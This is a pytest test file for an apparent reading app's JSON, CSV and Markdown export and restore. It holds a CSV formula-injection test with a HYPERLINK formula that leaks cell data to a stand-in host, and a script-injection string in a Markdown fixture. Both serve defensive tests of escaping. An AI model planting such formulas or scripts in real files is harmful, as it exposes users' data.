"""Export (JSON, CSV, Markdown) and restore: round trips, refusals, streaming, the commands."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import sqlite3
import subprocess
import tracemalloc
from collections.abc import Iterator
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from reader import Article, InvalidValue, Library
from reader.settings import DEFAULT_HIGHLIGHT_COLORS, HighlightColor
from reader.transfer import exporting as exporting_module
from reader.transfer.exporting import ExportReport
from reader.transfer.markdown_notes import escape_line, file_name, slug
from tests.conftest import run_in_process

DATED = (
    " date 2024-03-20 Harbour works began on Monday after the winter storms damaged the "
    "northern quay.\n\nWhat comes next\n\nThe council expects the quay to reopen in June.\n"
)
TITLED = (
    "Apples and pears\n\nThe harvest this autumn was the largest in a decade, growers said.\n"
)
TRICKY = (
    "Markup in the text\n\n# Not a heading\n\n* not a list item\n\n"
    "<script>alert('boom')</script>\n\n1. not numbered | not a table `code`\n"
)
PLAIN = (
    " date 2023-01-05 Monsoon rains arrived early over the southern coast, flooding "
    "several villages.\n"
)


# --- helpers ---------------------------------------------------------------------------------


def _fts(library_path: Path, match: str) -> list[int]:
    with sqlite3.connect(library_path) as raw:
        rows = raw.execute(
            "SELECT rowid FROM article_fts WHERE article_fts MATCH ? ORDER BY rowid", (match,)
        ).fetchall()
    raw.close()
    return [row[0] for row in rows]


def _without_stamp(path: Path) -> dict[str, Any]:
    document: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
    assert document.pop("exported_at")
    return document


def _is_empty(library: Library) -> bool:
    return (
        library.counts().total == 0
        and not library.tags()
        and not library.saved_searches()
        and _fts(library.path, "the OR a") == []
    )


def _marks(article: Article) -> list[tuple[Any, ...]]:
    return [(h.article_id, h.start, h.end, h.text, h.color, h.comment, h.created_at)
            for h in article.highlights]


def _span(body: str, words: str) -> tuple[int, int]:
    start = body.index(words)
    return start, start + len(words)


def _document(articles: list[dict[str, Any]], **extra: Any) -> dict[str, Any]:
    return {
        "format": "broadsheet-library", "version": 3, "exported_at": "2026-01-01T00:00:00+00:00",
        "articles": articles, "tags": [], "saved_searches": [], **extra,
    }


def _article(number: int, body: str = "Some body text.", **extra: Any) -> dict[str, Any]:
    return {
        "id": number, "title": f"Article {number}", "body": body, "published": "2024-05-01",
        "source": None, "path": None, "content_hash": f"{number:064x}",
        "imported_at": "2026-01-01T10:00:00", "read": False, "starred": False,
        "deleted_at": None, "tags": [], "note": None, "highlights": [], "url": None,
        "author": None, "text_fetched": True, "progress": 0.0, **extra,
    }


# --- a small library -------------------------------------------------------------------------


@pytest.fixture()
def built(tmp_path: Path) -> Iterator[tuple[Library, dict[str, int]]]:
    """Four imported articles with tags and colours, notes, highlights in two colours with
    comments, saved searches, flags, a custom title, date and source, and one in the trash."""
    folder = tmp_path / "in"
    folder.mkdir()
    for name, text in (("a.txt", DATED), ("b.txt", TITLED), ("c.txt", TRICKY),
                       ("d.txt", PLAIN)):
        (folder / name).write_text(text, encoding="utf-8")
    library = Library.open(tmp_path / "built.sqlite3")
    report = library.import_paths([folder])
    ids = {Path(item.path).name[0]: item.id for item in report.imported}
    assert len(ids) == 4
    library.add_tags([ids["a"], ids["c"]], ["World/Asia"])
    library.add_tags([ids["a"], ids["b"]], ["economy"])
    library.add_tags([ids["d"]], ["unused"])
    library.remove_tags([ids["d"]], ["unused"])  # a tag no article carries
    library.set_tag_color("World/Asia", "#3366cc")
    library.set_tag_color("unused", "#aa0000")
    library.update_article(ids["b"], title="Apples, pears & *stars*", published=date(2022, 9, 1),
                           source="The Orchard Times")
    library.set_read([ids["a"], ids["b"]])
    library.set_starred([ids["b"]])
    library.set_note(ids["a"], "Check the quay dates.\n\nPeninsula contractor named later.")
    library.set_note(ids["c"], "# not a heading\n* not a list\n<script>x()</script>")
    body = library.article(ids["a"]).body
    library.add_highlight(ids["a"], *_span(body, "winter storms"), "yellow", "cause of damage")
    library.add_highlight(ids["a"], *_span(body, "reopen in June"), "red", "doubtful timetable")
    library.add_highlight(ids["a"], *_span(body, "Harbour works"), "yellow")
    tricky = library.article(ids["c"]).body
    library.add_highlight(ids["c"], *_span(tricky, "* not a list item"), "green",
                          "# **bold?**")
    library.save_search("Harbours", "harbour")
    library.save_search("Fruit", "apples OR pears")
    library.delete_articles([ids["d"]])
    yield library, ids
    library.close()


# --- JSON round trip -------------------------------------------------------------------------


def test_json_export_restore_export_is_identical(
    built: tuple[Library, dict[str, int]], tmp_path: Path
) -> None:
    library, ids = built
    first = tmp_path / "first.json"
    assert library.transfer.export_json(first).articles == 4
    with Library.open(tmp_path / "copy.sqlite3") as copy:
        report = copy.transfer.restore(first)
        assert (report.articles, report.tags, report.saved_searches) == (4, 3, 2)
        second = tmp_path / "second.json"
        copy.transfer.export_json(second)
        assert _without_stamp(first) == _without_stamp(second)

        assert copy.article_ids() == library.article_ids()
        for article_id in ids.values():
            original, restored = library.article(article_id), copy.article(article_id)
            # Highlight and tag ids are the library's own and are not carried over.
            assert replace(restored, highlights=()) == replace(original, highlights=())
            assert _marks(restored) == _marks(original)
        assert copy.summaries(list(ids.values())) == library.summaries(list(ids.values()))
        assert [(t.name, t.color, t.count) for t in copy.tags()] == [
            (t.name, t.color, t.count) for t in library.tags()]
        assert [(s.name, s.query) for s in copy.saved_searches()] == [
            ("Harbours", "harbour"), ("Fruit", "apples OR pears")]
        # The search index holds titles, bodies, notes and highlight comments again.
        assert _fts(copy.path, "quay") == [ids["a"]]
        assert _fts(copy.path, "peninsula") == [ids["a"]]
        assert _fts(copy.path, "doubtful") == [ids["a"]]
        assert _fts(copy.path, "orchard OR monsoon") == _fts(library.path, "orchard OR monsoon")


def test_json_keeps_every_field(built: tuple[Library, dict[str, int]], tmp_path: Path) -> None:
    library, ids = built
    document = _without_stamp(library.transfer.export_json(tmp_path / "out.json").path)
    assert (document["format"], document["version"]) == ("broadsheet-library", 3)
    by_id = {item["id"]: item for item in document["articles"]}
    b = by_id[ids["b"]]
    assert (b["title"], b["published"], b["source"]) == (
        "Apples, pears & *stars*", "2022-09-01", "The Orchard Times")
    assert (b["read"], b["starred"], b["tags"], b["note"]) == (True, True, ["economy"], None)
    assert by_id[ids["d"]]["deleted_at"] is not None
    assert by_id[ids["a"]]["deleted_at"] is None
    a = by_id[ids["a"]]
    assert a["tags"] == ["economy", "World/Asia"]
    assert a["note"]["text"].startswith("Check the quay") and a["note"]["updated_at"]
    assert [(h["text"], h["color"], h["comment"]) for h in a["highlights"]] == [
        ("Harbour works", "yellow", ""),
        ("winter storms", "yellow", "cause of damage"),
        ("reopen in June", "red", "doubtful timetable"),
    ]
    assert set(a) == {"id", "title", "body", "published", "source", "path", "content_hash",
                      "imported_at", "read", "starred", "deleted_at", "tags", "note",
                      "highlights", "url", "author", "text_fetched", "progress"}
    assert {"name": "unused", "color": "#aa0000"} in document["tags"]


def test_a_selection_limits_articles_and_tags(
    built: tuple[Library, dict[str, int]], tmp_path: Path
) -> None:
    library, ids = built
    document = _without_stamp(library.transfer.export_json(tmp_path / "b.json", [ids["b"]]).path)
    assert [item["id"] for item in document["articles"]] == [ids["b"]]
    assert document["tags"] == [{"name": "economy", "color": None}]


_text = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40)
_stamp = st.datetimes(min_value=datetime(2000, 1, 1)).map(
    lambda moment: moment.replace(microsecond=0).isoformat())


_URLS = ["https://example.com/a?utm_source=x", "http://news.example.org/", "https://b.example/"]


@st.composite
def _documents(draw: st.DrawFn) -> dict[str, Any]:
    tag_names = draw(st.lists(st.from_regex(r"[a-z]{1,8}(/[a-z]{1,8})?", fullmatch=True),
                              max_size=4, unique_by=str.casefold))
    count = draw(st.integers(0, 4))
    ids = draw(st.lists(st.integers(1, 10_000), min_size=count, max_size=count, unique=True))
    articles = []
    for article_id in sorted(ids):
        body = draw(_text.filter(lambda text: len(text) > 2))
        start = draw(st.integers(0, len(body) - 2))
        marks = [
            {"start": start, "end": start + 1, "text": body[start], "color": color,
             "comment": draw(_text), "created_at": draw(_stamp)}
            for color in draw(st.lists(st.sampled_from(["yellow", "red", "teal"]), max_size=2))
        ]
        note = draw(st.none() | st.fixed_dictionaries({"text": _text, "updated_at": _stamp}))
        articles.append(_article(
            article_id, body, title=draw(_text), source=draw(st.none() | _text),
            published=draw(st.none() | st.dates().map(date.isoformat)),
            read=draw(st.booleans()), starred=draw(st.booleans()),
            progress=draw(st.sampled_from([0.0, 0.25, 0.3333, 1.0])),
            url=draw(st.none() | st.sampled_from(_URLS)), author=draw(st.none() | _text),
            deleted_at=draw(st.none() | _stamp), imported_at=draw(_stamp),
            tags=sorted(draw(st.sets(st.sampled_from(tag_names))) if tag_names else [],
                        key=str.casefold),
            note=note, highlights=marks,
        ))
    colours = st.none() | st.from_regex(r"#[0-9a-f]{6}", fullmatch=True)
    tags = sorted(({"name": name, "color": draw(colours)} for name in tag_names),
                  key=lambda tag: tag["name"].casefold())
    searches = [{"name": f"search {n}", "query": draw(_text)} for n in range(draw(
        st.integers(0, 2)))]
    return _document(articles, tags=tags, saved_searches=searches)


@pytest.fixture(scope="module")
def empty_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An empty, migrated library file: copying it is much faster than migrating anew."""
    path = tmp_path_factory.mktemp("template") / "empty.sqlite3"
    Library.open(path).close()
    return path


@settings(max_examples=30, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(document=_documents())
def test_any_export_restores_and_exports_back_unchanged(
    document: dict[str, Any], empty_template: Path, tmp_path: Path
) -> None:
    folder = tmp_path / f"case{os.getpid()}-{id(document)}"
    folder.mkdir()
    source = folder / "in.json"
    source.write_text(json.dumps(document), encoding="utf-8")
    shutil.copy(empty_template, folder / "lib.sqlite3")
    with Library.open(folder / "lib.sqlite3") as library:
        library.transfer.restore(source)
        library.transfer.export_json(folder / "out.json")
    assert _without_stamp(folder / "out.json") == {
        key: value for key, value in document.items() if key != "exported_at"
    }
    shutil.rmtree(folder)


# --- restore refusals ------------------------------------------------------------------------


def test_restore_refuses_a_library_that_is_not_empty(
    built: tuple[Library, dict[str, int]], tmp_path: Path
) -> None:
    library, _ = built
    exported = library.transfer.export_json(tmp_path / "out.json").path
    with pytest.raises(InvalidValue, match=r"not empty \(4 articles, 3 tags, 2 saved searches"):
        library.transfer.restore(exported)
    assert library.counts().total + library.counts().trash == 4


@pytest.mark.parametrize(
    "content",
    ["", "plain words, not JSON", "id,title\n1,x\n", "[1, 2]", '{"articles": []}',
     '{"format": "something-else", "version": 1, "articles": []}'],
    ids=["empty", "text", "csv", "array", "no-format", "other-format"],
)
def test_restore_refuses_files_that_are_not_exports(
    content: str, library: Library, tmp_path: Path
) -> None:
    path = tmp_path / "not-an-export.json"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(InvalidValue, match="is not a Broadsheet library export") as caught:
        library.transfer.restore(path)
    assert str(path) in str(caught.value)
    assert _is_empty(library)


def test_restore_refuses_a_newer_version(library: Library, tmp_path: Path) -> None:
    path = tmp_path / "future.json"
    path.write_text(json.dumps({**_document([_article(1)]), "version": 4}), encoding="utf-8")
    with pytest.raises(InvalidValue, match=r"newer Broadsheet .*version 4") as caught:
        library.transfer.restore(path)
    assert str(path) in str(caught.value)
    assert _is_empty(library)


def test_a_truncated_file_leaves_the_library_empty(
    built: tuple[Library, dict[str, int]], library: Library, tmp_path: Path
) -> None:
    text = built[0].transfer.export_json(tmp_path / "full.json").path.read_text(encoding="utf-8")
    cut = tmp_path / "cut.json"
    cut.write_text(text[: len(text) * 2 // 3], encoding="utf-8")
    with pytest.raises(InvalidValue, match="damaged or incomplete") as caught:
        library.transfer.restore(cut)
    assert str(cut) in str(caught.value)
    assert _is_empty(library)


def test_a_bad_article_after_whole_batches_rolls_everything_back(
    library: Library, tmp_path: Path
) -> None:
    articles = [_article(n) for n in range(1, 1200)]
    articles[1100]["highlights"] = [{"start": 5, "end": 999, "text": "x", "color": "red",
                                    "comment": "", "created_at": "2026-01-01T00:00:00"}]
    path = tmp_path / "bad.json"
    path.write_text(json.dumps(_document(articles)), encoding="utf-8")
    with pytest.raises(InvalidValue, match=r"article 1101, highlight 1: range 5-999"):
        library.transfer.restore(path)
    assert _is_empty(library)


def test_duplicate_ids_are_reported_and_roll_back(library: Library, tmp_path: Path) -> None:
    path = tmp_path / "twice.json"
    article = _article(7)
    path.write_text(json.dumps(_document([article, {**article, "content_hash": "f" * 64}])),
                    encoding="utf-8")
    with pytest.raises(InvalidValue, match="two articles have the same id"):
        library.transfer.restore(path)
    assert _is_empty(library)


def test_cancelled_restore_writes_nothing(library: Library, tmp_path: Path) -> None:
    path = tmp_path / "many.json"
    path.write_text(json.dumps(_document([_article(n) for n in range(1, 800)])),
                    encoding="utf-8")
    seen: list[tuple[int, int]] = []
    report = library.transfer.restore(path, progress=lambda done, total: seen.append((done, total)),
                             cancel=lambda: bool(seen))
    assert report.cancelled
    assert seen and seen[0][1] == path.stat().st_size
    assert _is_empty(library)


# --- Markdown --------------------------------------------------------------------------------


def _heading_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith("#")]


def test_markdown_digest_groups_highlights_and_keeps_text_inert(
    built: tuple[Library, dict[str, int]], tmp_path: Path
) -> None:
    library, ids = built
    colors = [HighlightColor("red", "Doubtful", "#ff0000"),
              HighlightColor("yellow", "Important", "#ffff00")]
    digest = tmp_path / "notes.md"
    selection = [ids["a"], ids["c"], ids["b"]]
    assert library.transfer.export_markdown(digest, selection, colors=colors).articles == 3
    text = digest.read_text(encoding="utf-8")

    assert _heading_lines(text) == [
        "# Notes and highlights",
        "## Harbour works began on Monday after the winter storms damaged the northern quay.",
        "### Note", "### Highlights", "#### Doubtful", "#### Important",
        "## Markup in the text", "### Note", "### Highlights", "#### green",
        r"## Apples, pears \& \*stars\*",
    ]
    harbour = text[: text.index("## Markup")]
    # Colours in the user's order, each quote followed by its comment.
    assert harbour.index("#### Doubtful") < harbour.index("> reopen in June") < harbour.index(
        "doubtful timetable") < harbour.index("#### Important") < harbour.index(
        "> Harbour works") < harbour.index("> winter storms") < harbour.index("cause of damage")
    assert "- Tags: economy, World/Asia" in harbour
    assert "Check the quay dates.\n\nPeninsula contractor named later." in harbour
    assert "- Date: 2022-09-01\n- Source: The Orchard Times\n- Tags: economy" in text

    tricky = text[text.index("## Markup") : text.index("## Apples")]
    assert "> \\* not a list item\n\n\\# \\*\\*bold?\\*\\*\n" in tricky
    assert "\\# not a heading\\\n\\* not a list\\\n\\<script\\>x()\\</script\\>" in tricky
    assert "<script>" not in text.replace("\\<script\\>", "")
    bullets = [line for line in text.splitlines() if re.match(r"\s*[-*+] ", line)]
    assert all(re.match(r"- (Date|Source|Tags): ", line) for line in bullets)


def test_markdown_folder_has_one_safely_named_file_per_article(
    built: tuple[Library, dict[str, int]], tmp_path: Path
) -> None:
    library, ids = built
    folder = tmp_path / "notes"
    report = library.transfer.export_markdown(folder, colors=DEFAULT_HIGHLIGHT_COLORS)
    names = sorted(path.name for path in folder.iterdir())
    assert report.articles == len(names) == len(library.article_ids())
    assert f"apples-pears-stars-{ids['b']}.md" in names
    assert all(re.fullmatch(r"[a-z0-9-]+-\d+\.md", name) for name in names)
    page = (folder / f"apples-pears-stars-{ids['b']}.md").read_text(encoding="utf-8")
    assert page.startswith("# Apples, pears \\& \\*stars\\*\n\n- Date: 2022-09-01")


def test_file_names_are_safe_everywhere() -> None:
    assert slug('C:\\Temp\\<con>?: "quoted" / piped|*') == "c-temp-con-quoted-piped"
    assert slug("Ünïcödé Nachrichten — 北朝鮮") == "ünïcödé-nachrichten-北朝鮮"
    assert slug("...") == "article"
    assert len(slug("word " * 100)) <= 60
    assert file_name("CON", 3) == "con-3.md"


def test_escaping_keeps_line_starts_inert() -> None:
    assert escape_line("    # heading") == "\\# heading"
    assert escape_line("- item") == "\\- item"
    assert escape_line("2024. A year") == "2024\\. A year"
    assert escape_line("a_b [link](x) & <b>") == "a\\_b \\[link\\](x) \\& \\<b\\>"


# --- CSV -------------------------------------------------------------------------------------


def test_csv_parses_back_with_the_right_rows(
    built: tuple[Library, dict[str, int]], tmp_path: Path
) -> None:
    library, ids = built
    path = library.transfer.export_csv(tmp_path / "list.csv").path
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == ["id", "title", "published", "source", "tags", "read", "starred",
                             "has_note", "highlights", "imported_at", "url", "author"]
    assert [int(row["id"]) for row in rows] == library.article_ids()
    by_id = {int(row["id"]): row for row in rows}
    b, a = by_id[ids["b"]], by_id[ids["a"]]
    assert (b["title"], b["published"], b["source"], b["tags"]) == (
        "Apples, pears & *stars*", "2022-09-01", "The Orchard Times", "economy")
    assert (b["read"], b["starred"], b["has_note"], b["highlights"]) == (
        "true", "true", "false", "0")
    assert (a["tags"], a["has_note"], a["highlights"], a["starred"]) == (
        "economy; World/Asia", "true", "3", "false")
    assert ids["d"] not in by_id  # the list leaves the trash out


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _unguard(cell: str) -> str:
    """A CSV text cell read back as README says: one ``'`` dropped before a formula start."""
    if cell.startswith("'") and cell.lstrip("'").startswith(FORMULA_STARTS):
        return cell[1:]
    return cell


def _split_tags(cell: str) -> list[str]:
    """A CSV tags cell read back as README says: ``;;`` is a ``;``, ``; `` ends a name."""
    if not cell:
        return []
    names: list[str] = []
    name: list[str] = []
    at = 0
    while at < len(cell):
        if cell.startswith(";;", at):
            name.append(";")
            at += 2
        elif cell.startswith("; ", at):
            names.append("".join(name))
            name = []
            at += 2
        else:
            name.append(cell[at])
            at += 1
    names.append("".join(name))
    return names


def _csv_rows(library: Library, path: Path) -> dict[int, dict[str, str]]:
    library.transfer.export_csv(path)
    with path.open(encoding="utf-8", newline="") as handle:
        return {int(row["id"]): row for row in csv.DictReader(handle)}


def test_csv_text_cells_cannot_run_as_formulas(
    built: tuple[Library, dict[str, int]], tmp_path: Path
) -> None:
    library, ids = built
    hyperlink = '=HYPERLINK("http://example.com/?leak="&A1, "Click")'
    library.update_article(ids["a"], title=hyperlink, source="+44 20 7946 0000")
    library.update_article(ids["b"], title="-2 degrees overnight", source="@newsdesk")
    library.update_article(ids["c"], title="'=1+1 is not a formula", source="'Tis the season")
    rows = _csv_rows(library, tmp_path / "list.csv")
    a, b, c = rows[ids["a"]], rows[ids["b"]], rows[ids["c"]]
    assert (a["title"], a["source"]) == ("'" + hyperlink, "'+44 20 7946 0000")
    assert (b["title"], b["source"]) == ("'-2 degrees overnight", "'@newsdesk")
    # Text already quoted before a formula start gets one more quote; other quotes stay.
    assert (c["title"], c["source"]) == ("''=1+1 is not a formula", "'Tis the season")
    for article_id, row in rows.items():
        article = library.article(article_id)
        assert _unguard(row["title"]) == article.title
        assert _unguard(row["source"]) == (article.source or "")
        assert not row["title"].startswith(FORMULA_STARTS)
        assert not row["source"].startswith(FORMULA_STARTS)
        # Ids, dates, flags and counts are written as they are.
        assert row["id"] == str(article.id)
        assert row["published"] == (article.published.isoformat() if article.published else "")
        assert row["imported_at"] == article.imported_at.isoformat()
        assert row["highlights"] == str(len(article.highlights))
        assert row["read"] == ("true" if article.read else "false")


def test_csv_tag_lists_decode_to_the_exact_names(
    built: tuple[Library, dict[str, int]], tmp_path: Path
) -> None:
    library, ids = built
    tricky = ["a;b", "ends;", ";starts", "semi; colon", "-draft", "=SUM(A1)", "plain"]
    library.add_tags([ids["a"]], tricky)
    library.add_tags([ids["b"]], ["ends;", "b"])  # "ends;" then "b" must not read as "ends" ";b"
    library.add_tags([ids["c"]], ["ends", ";b"])
    rows = _csv_rows(library, tmp_path / "list.csv")
    for article_id, row in rows.items():
        expected = [ref.name for ref in library.article(article_id).tags]
        assert _split_tags(_unguard(row["tags"])) == expected
    assert {tuple(_split_tags(_unguard(rows[ids[key]]["tags"]))) for key in "bc"} == {
        ("b", "economy", "ends;"), (";b", "ends", "World/Asia")}
    assert rows[ids["b"]]["tags"] != rows[ids["c"]]["tags"]
    assert set(tricky) <= set(_split_tags(_unguard(rows[ids["a"]]["tags"])))


_tag_names = st.text(alphabet="ab; -='", min_size=1, max_size=8).map(str.strip).filter(bool)


@given(st.lists(_tag_names, max_size=5), st.text(alphabet="a;' =+-@\t\r", max_size=8))
def test_csv_encodings_always_decode_back(names: list[str], text: str) -> None:
    assert _split_tags(_unguard(exporting_module.csv_text(exporting_module.csv_tags(names)))) == (
        names)
    guarded = exporting_module.csv_text(text)
    assert _unguard(guarded) == text
    assert not guarded.startswith(FORMULA_STARTS)


# --- progress, cancel, streaming -------------------------------------------------------------


def test_progress_and_cancel(built: tuple[Library, dict[str, int]], tmp_path: Path,
                             monkeypatch: pytest.MonkeyPatch) -> None:
    library, _ = built
    monkeypatch.setattr(exporting_module, "PAGE_SIZE", 1)
    seen: list[tuple[int, int]] = []
    library.transfer.export_json(tmp_path / "all.json", progress=lambda *pair: seen.append(pair))
    assert seen == [(0, 4), (1, 4), (2, 4), (3, 4), (4, 4)]

    target = tmp_path / "cancelled.json"
    report = library.transfer.export_json(target, cancel=lambda: len(seen) > 7,
                                 progress=lambda *pair: seen.append(pair))
    assert report == ExportReport(target, 2, cancelled=True)
    assert list(tmp_path.glob("cancelled*")) == [] and not list(tmp_path.glob(".cancelled*"))


@pytest.fixture(scope="module")
def large_export(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An export of 2,000 articles of about 4 KB each (8 MB in all)."""
    path = tmp_path_factory.mktemp("large") / "in.json"
    words = "the quick brown fox jumps over the lazy dog near the harbour wall "
    body = (words * 70)[:4000]
    articles = [_article(n, f"{n} {body}", tags=["bulk"]) for n in range(1, 2001)]
    path.write_text(json.dumps(_document(articles)), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def large(large_export: Path) -> Iterator[Library]:
    library = Library.open(large_export.with_name("lib.sqlite3"))
    assert library.transfer.restore(large_export).articles == 2000
    yield library
    library.close()


def test_export_reads_the_library_a_page_at_a_time(
    large: Library, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pages: list[int] = []
    original = exporting_module.article_records

    def counting(conn: Any, ids: list[int]) -> list[dict[str, Any]]:
        pages.append(len(ids))
        return original(conn, ids)

    monkeypatch.setattr(exporting_module, "article_records", counting)
    large.transfer.export_json(tmp_path / "out.json")
    assert sum(pages) == 2000
    assert max(pages) <= exporting_module.PAGE_SIZE < 2000


def test_export_memory_stays_flat(large: Library, tmp_path: Path) -> None:
    total_text = 2000 * 4000
    tracemalloc.start()
    try:
        large.transfer.export_json(tmp_path / "out.json")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert (tmp_path / "out.json").stat().st_size > total_text
    assert peak < total_text / 4, f"peak {peak} bytes"


def test_restore_memory_stays_flat(large_export: Path, library: Library) -> None:
    tracemalloc.start()
    try:
        library.transfer.restore(large_export)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert library.counts().total == 2000
    assert peak < large_export.stat().st_size / 2, f"peak {peak} bytes"


def test_restore_of_a_large_file_fills_the_index(large: Library) -> None:
    assert large.counts().total == 2000
    assert len(_fts(large.path, "harbour")) == 2000
    assert _fts(large.path, '"1999"') == [1999]


# --- command line ----------------------------------------------------------------------------


def broadsheet(*args: str, library: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != "BROADSHEET_LIBRARY"}
    return run_in_process(["--library", str(library), *args], env=env)


def _one_line_error(result: subprocess.CompletedProcess[str], *fragments: str) -> None:
    assert result.returncode == 1, result
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("broadsheet: error: "), result.stderr
    assert all(fragment in lines[0] for fragment in fragments), lines[0]


def test_cli_export_and_restore(built: tuple[Library, dict[str, int]], tmp_path: Path) -> None:
    library, _ = built
    first, second = tmp_path / "first.json", tmp_path / "second.json"
    result = broadsheet("export", "--format", "json", "--output", str(first),
                        library=library.path)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == f"Exported 4 articles to {first}"
    copy = tmp_path / "copy.sqlite3"
    result = broadsheet("restore", str(first), library=copy)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == (
        f"Restored 4 articles, 3 tags, 2 saved searches from {first}")
    assert broadsheet("export", "--format", "json", "--output", str(second),
                      library=copy).returncode == 0
    assert _without_stamp(first) == _without_stamp(second)

    again = broadsheet("restore", str(first), library=copy)
    _one_line_error(again, "not empty")
    garbage = tmp_path / "garbage.json"
    garbage.write_text("<html>", encoding="utf-8")
    _one_line_error(broadsheet("restore", str(garbage), library=tmp_path / "new.sqlite3"),
                    str(garbage), "not a Broadsheet library export")


def test_cli_markdown_and_csv_with_a_query(
    built: tuple[Library, dict[str, int]], tmp_path: Path
) -> None:
    library, ids = built
    digest, folder, table = tmp_path / "digest.md", tmp_path / "pages", tmp_path / "list.csv"
    for output, kind, query in ((digest, "markdown", "quay"), (folder, "markdown", None),
                                (table, "csv", "quay")):
        extra = [] if query is None else [query]
        result = broadsheet("export", "--format", kind, "--output", str(output), *extra,
                            library=library.path)
        assert result.returncode == 0, result.stderr
    assert digest.read_text(encoding="utf-8").count("\n## ") == 1
    assert len(list(folder.glob("*.md"))) == len(library.article_ids())
    with table.open(encoding="utf-8", newline="") as handle:
        assert [int(row["id"]) for row in csv.DictReader(handle)] == [ids["a"]]


def test_cli_usage_errors_exit_2(library: Library, tmp_path: Path) -> None:
    result = broadsheet("export", "--output", str(tmp_path / "x.json"), library=library.path)
    assert result.returncode == 2 and "--format" in result.stderr
    result = broadsheet("export", "--format", "pdf", "--output", "x", library=library.path)
    assert result.returncode == 2


def test_cli_query_without_search_is_an_error(
    library: Library, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    from reader.cli import main as cli
    from reader.cli import transfer as cli_transfer

    monkeypatch.setattr(cli_transfer.importlib.util, "find_spec", lambda name: None)
    status = cli.main(["--library", str(library.path), "export", "--format", "csv",
                       "--output", str(tmp_path / "x.csv"), "anything"])
    assert status == 1
    assert capsys.readouterr().err.strip() == "broadsheet: error: search is not available"
    assert not (tmp_path / "x.csv").exists()
